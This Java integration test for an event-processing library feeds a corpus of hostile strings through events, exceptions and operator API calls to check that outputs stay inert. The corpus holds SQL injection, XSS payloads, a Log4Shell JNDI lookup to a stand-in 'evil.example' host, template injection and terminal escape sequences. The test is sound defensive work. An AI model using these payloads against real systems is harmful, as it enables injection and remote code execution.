package io.amends.spring.hostile;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import io.amends.api.CodedError;
import io.amends.api.EventKey;
import io.amends.api.EventProcessor;
import io.amends.api.EventPublisher;
import io.amends.api.EventType;
import io.amends.api.InvalidEventException;
import io.amends.api.OnEvent;
import io.amends.api.OutgoingEvent;
import io.amends.api.StartFrom;
import io.amends.api.Wait;
import io.amends.spring.PostgresForTests;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.SpringBootConfiguration;
import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.transaction.PlatformTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Texts that mean harm, from the event and the exception through PostgreSQL to every answer of the operator API. */
@SpringBootTest(
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {
            "spring.application.name=hostile",
            "spring.datasource.username=postgres",
            "amends.heartbeat=300ms",
            "amends.immediate-backoffs=",
            "amends.compensation.enabled=false",
            "amends.cloudevents.enabled=true"
        })
@DirtiesContext
class HostileCorpusTest {
    private static final Duration SOON = Duration.ofSeconds(60);

    /** No answer about a page of failures needs more. */
    private static final int MOST_BYTES = 512 * 1024;

    private static final int CAUSES = 10_000;

    private static final String HOSTILE_TYPE = "'; DROP TABLE x; -- \u202e<script>alert(1)</script>";

    private static final List<String> CORPUS = List.of(
            "'; DROP TABLE amends.failed_execution; --",
            "\" OR \"\"=\" \\' $$ $1 ? {0} %s %n",
            "<script>alert(1)</script><img src=x onerror=alert(1)>]]>",
            "${jndi:ldap://evil.example/a} {{7*7}}",
            "\u001b[2J\u001b]0;owned\u0007\r\nSet-Cookie: a=b",
            "\u202egnp.exe\u202c \u2066left\u2069 \u2067right\u2069 \u202a\u202b\u202d",
            "\u200e\u200f\u061c marks, line\u2028 and paragraph\u2029",
            "C1 \u0080\u0085\u009b2J\u009d0;owned\u009c\u009f",
            "NUL \u0000 and DEL \u007f",
            "lone \ud800 and \udc00\ud800 surrogates, a pair \ud83d\udca9",
            "\ufeff\ufffe\uffff non-characters, Z\u0335\u0321\u0322algo",
            "x".repeat(1 << 20));

    @EventType("harm.done")
    record Harm(@EventKey String key, int text, boolean nested, String note) {}

    @EventType(HOSTILE_TYPE)
    record OddlyNamed(@EventKey String key, int text) {}

    @EventType("harm.awaited")
    record Awaited(@EventKey String key) {}

    static class Hostile extends RuntimeException implements CodedError {
        private final String code;

        Hostile(String text, Throwable cause) {
            super(text, cause);
            code = text;
        }

        @Override
        public String errorCode() {
            return code;
        }
    }

    @EventProcessor(name = "harmed", startFrom = StartFrom.EARLIEST)
    static class Harmed {
        @OnEvent
        void on(Harm event) {
            String text = CORPUS.get(event.text());
            Throwable cause = new IllegalStateException(text);
            for (int i = 0; event.nested() && i < CAUSES; i++) {
                cause = new IllegalArgumentException(i + text.substring(0, Math.min(100, text.length())), cause);
            }
            Hostile thrown = new Hostile(text, cause);
            thrown.addSuppressed(new IllegalStateException(text));
            throw thrown;
        }

        @OnEvent
        void on(OddlyNamed event) {
            throw new Hostile(CORPUS.get(event.text()), new IllegalStateException(CORPUS.get(event.text())));
        }

        @OnEvent
        void on(Awaited event) {
            throw Wait.forDuration(Duration.ofHours(1));
        }
    }

    @SpringBootConfiguration
    @EnableAutoConfiguration
    @Import(Harmed.class)
    static class Application {}

    @DynamicPropertySource
    static void database(DynamicPropertyRegistry registry) {
        String url = PostgresForTests.newDatabase();
        registry.add("spring.datasource.url", () -> url);
    }

    @LocalServerPort
    int port;

    @Autowired
    EventPublisher events;

    @Autowired
    PlatformTransactionManager transactions;

    @Autowired
    JdbcTemplate sql;

    private final HttpClient client = HttpClient.newHttpClient();
    private final Set<String> keys = new TreeSet<>();

    @BeforeEach
    void publish() throws Exception {
        for (int i = 0; i < CORPUS.size(); i++) {
            publish(i, new Harm(key(i, "a"), i, false, note(i)), "harm.done");
            publish(i, new Harm(key(i, "b"), i, true, note(i)), "harm.done");
            publish(i, new OddlyNamed(key(i, "c"), i), HOSTILE_TYPE);
        }
        // in the escapes of JSON a payload may have what no attribute may
        String key = key(5, "door");
        keys.add(key);
        assertThat(send(key, "\\u0000 \\u001b \\u202e \\u009b")).isEqualTo(202);
        assertThat(send(key, "\\ud800")).as("a lone surrogate").isEqualTo(400);
    }

    private int send(String key, String escapes) throws Exception {
        String body =
                "{\"specversion\":\"1.0\",\"id\":\"1\",\"source\":\"/till\",\"type\":\"harm.done\",\"partitionkey\":\""
                        + key + "\",\"data\":{\"key\":\"k\",\"text\":4,\"note\":\"" + escapes + "\"}}";
        return client.send(
                        to("/events")
                                .header("Content-Type", "application/cloudevents+json")
                                .POST(BodyPublishers.ofString(body))
                                .build(),
                        BodyHandlers.ofByteArray())
                .statusCode();
    }

    private static String note(int text) {
        return CORPUS.get(text).substring(0, Math.min(1000, CORPUS.get(text).length()));
    }

    /** What an event's attribute may hold of a text, and different for each. */
    private static String key(int text, String name) {
        return allowed(CORPUS.get(text), 100) + " " + text + name;
    }

    private static String allowed(String text, int most) {
        StringBuilder kept = new StringBuilder();
        text.codePoints()
                .limit(most)
                .filter(c -> c >= 0x20 && c != 0x7f && (c < Character.MIN_SURROGATE || c > Character.MAX_SURROGATE))
                .forEach(kept::appendCodePoint);
        return kept.toString();
    }

    private void publish(int text, Object payload, String type) {
        String key = payload instanceof Harm harm ? harm.key() : ((OddlyNamed) payload).key();
        String raw = CORPUS.get(text);
        OutgoingEvent event = OutgoingEvent.of(payload).withType(type);
        TransactionTemplate transaction = new TransactionTemplate(transactions);
        if (!raw.equals(allowed(raw, 4096))) {
            for (OutgoingEvent bad : List.of(
                    event.withKey(raw),
                    event.withSubject(raw),
                    event.withSource(raw),
                    event.withType(raw),
                    event.withHeaders(Map.of("note", raw)),
                    event.withHeaders(Map.of("tenantid", raw)))) {
                assertThatThrownBy(() -> transaction.executeWithoutResult(status -> events.publish(bad)))
                        .as("corpus %d", text)
                        .isInstanceOf(InvalidEventException.class)
                        .satisfies(refused -> assertHarmless(String.valueOf(refused.getMessage())));
            }
        }
        String some = allowed(raw, 700);
        transaction.executeWithoutResult(status -> events.publish(
                event.withSubject(some).withHeaders(Map.of("note", some, "tenantid", some, "password", some))));
        keys.add(key);
    }

    @Test
    void everyEventBecomesAFailedExecutionAndEveryAnswerIsInert() throws Exception {
        new TransactionTemplate(transactions)
                .executeWithoutResult(status -> events.publish(OutgoingEvent.of(new Awaited(key(7, "w")))
                        .withHeaders(Map.of("tenantid", allowed(CORPUS.get(5), 200)))));
        await().atMost(SOON)
                .untilAsserted(() -> assertThat(
                                sql.queryForObject("SELECT count(*) FROM amends.failed_execution", Integer.class))
                        .isEqualTo(keys.size()));

        JsonNode failures = get("/failures?limit=200").get("items");
        assertThat(texts(failures, "key")).containsExactlyInAnyOrderElementsOf(keys);
        await().atMost(SOON)
                .untilAsserted(
                        () -> assertThat(get("/groups?limit=200").get("items")).isNotEmpty());
        await().atMost(SOON)
                .untilAsserted(() -> assertThat(get("/waits").get("items")).hasSize(1));
        command(failures);

        for (JsonNode failure : failures) {
            String path = "/failures/" + failure.get("id").asString();
            get(path);
            assertThat(get(path + "/history").get("items")).isNotEmpty();
            get(path + "/event");
            get(path + "/event?reveal=true&all=true");
            String key = failure.get("key").asString();
            String lane = failure.get("lane").asString();
            assertThat(texts(get("/failures?key=" + encoded(lane)).get("items"), "id"))
                    .as(encoded(lane))
                    .containsExactly(failure.get("id").asString());
            assertThat(get("/lanes?key=" + encoded(key)).get("items")).hasSize(1);
        }
        JsonNode groups = get("/groups?limit=200").get("items");
        for (JsonNode group : groups) {
            get("/groups/" + encoded(group.get("fingerprint").asString()));
        }
        List<JsonNode> lanes = new ArrayList<>();
        for (@Nullable String after = ""; after != null; ) {
            JsonNode page = get("/lanes?limit=1" + after);
            page.get("items").forEach(lanes::add);
            after = page.get("next").isNull()
                    ? null
                    : "&after=" + encoded(page.get("next").asString());
        }
        assertThat(lanes).hasSize(keys.size() + 1);
        for (JsonNode lane : lanes) {
            String name = Base64.getUrlEncoder()
                    .withoutPadding()
                    .encodeToString(lane.get("key").asString().getBytes(UTF_8));
            assertThat(get("/lanes/harmed/~" + name).get("key").asString())
                    .isEqualTo(lane.get("key").asString());
        }
        JsonNode batches = get("/batches").get("items");
        assertThat(batches).isNotEmpty();
        for (JsonNode batch : batches) {
            String path = "/batches/" + batch.get("id").asString();
            get(path);
            get(path + "/items");
        }
        for (String path :
                List.of("/audit?limit=200", "/flow", "/nodes", "/counts", "/processors", "/processors/harmed", "/me")) {
            get(path);
        }
    }

    /** Each text as a reason and as a note: taken as it is if it shows what it says, refused otherwise. */
    private void command(JsonNode failures) throws Exception {
        String failure = "/failures/" + failures.get(0).get("id").asString();
        String group = "/groups/" + encoded(failures.get(0).get("fingerprint").asString());
        List<String> taken = new ArrayList<>();
        for (String text : CORPUS) {
            boolean plain = text.length() <= 1000 && text.codePoints().noneMatch(HostileCorpusTest::isHarmful);
            int expected = plain ? 200 : text.length() <= 1000 ? 400 : 413;
            assertThat(post(failure + "/recoverable", Map.of("recoverability", "RECOVERABLE", "reason", text)))
                    .as(shown(text))
                    .isEqualTo(expected);
            assertThat(post(group + "/note", Map.of("note", text, "reason", text)))
                    .as(shown(text))
                    .isEqualTo(expected);
            HttpResponse<byte[]> plan = answer(
                    "/batches/plan?processor=harmed",
                    Map.of("action", "recoverable", "recoverability", "UNKNOWN", "reason", text));
            assertThat(plan.statusCode()).as(shown(text)).isEqualTo(expected);
            if (plain) {
                taken.add(text);
                String batch = inert("plan", plan).get("batch").get("id").asString();
                assertThat(post("/batches/" + batch + "/start", Map.of("reason", text)))
                        .isIn(200, 202);
                assertThat(get(group).get("note").asString()).isEqualTo(text);
            }
        }
        assertThat(taken)
                .as("quotes, markup and templates do no harm where they are data")
                .hasSizeGreaterThan(4);
        assertThat(texts(get("/audit?limit=200").get("items"), "reason")).containsAll(taken);
    }

    private static List<String> texts(JsonNode items, String member) {
        return IntStream.range(0, items.size())
                .mapToObj(i -> items.get(i).path(member).asString(""))
                .toList();
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, UTF_8).replace("+", "%20");
    }

    private HttpRequest.Builder to(String path) {
        return HttpRequest.newBuilder(URI.create("http://localhost:" + port + path));
    }

    private JsonNode get(String path) throws Exception {
        HttpResponse<byte[]> response = client.send(to("/amends/api/v1" + path).build(), BodyHandlers.ofByteArray());
        assertThat(response.statusCode())
                .as("%s: %s", path, new String(response.body(), UTF_8))
                .isEqualTo(200);
        return inert(path, response);
    }

    private int post(String path, Object body) throws Exception {
        return answer(path, body).statusCode();
    }

    private HttpResponse<byte[]> answer(String path, Object body) throws Exception {
        HttpResponse<byte[]> response = client.send(
                to("/amends/api/v1" + path)
                        .header("Content-Type", "application/json")
                        .POST(BodyPublishers.ofByteArray(JsonMapper.shared().writeValueAsBytes(body)))
                        .build(),
                BodyHandlers.ofByteArray());
        inert(path, response);
        return response;
    }

    private static JsonNode inert(String path, HttpResponse<byte[]> response) throws CharacterCodingException {
        assertThat(response.headers().firstValue("Content-Type").orElse(""))
                .as(path)
                .matches("application/(problem\\+)?json");
        assertThat(response.body().length).as("bytes of %s", path).isLessThan(MOST_BYTES);
        // strictly: bytes that are no UTF-8, also those of a lone surrogate, are an error
        String text =
                UTF_8.newDecoder().decode(ByteBuffer.wrap(response.body())).toString();
        assertHarmless(text);
        return JsonMapper.shared().readTree(response.body());
    }

    private static void assertHarmless(String text) {
        assertThat(text.codePoints().filter(HostileCorpusTest::isHarmful).mapToObj(Integer::toHexString))
                .as(() -> shown(text))
                .isEmpty();
    }

    private static boolean isHarmful(int c) {
        return Character.isISOControl(c)
                || (c >= Character.MIN_SURROGATE && c <= Character.MAX_SURROGATE)
                || (c >= 0x202a && c <= 0x202e)
                || (c >= 0x2066 && c <= 0x2069);
    }

    private static String shown(String text) {
        return text.substring(0, Math.min(300, text.length()));
    }
}
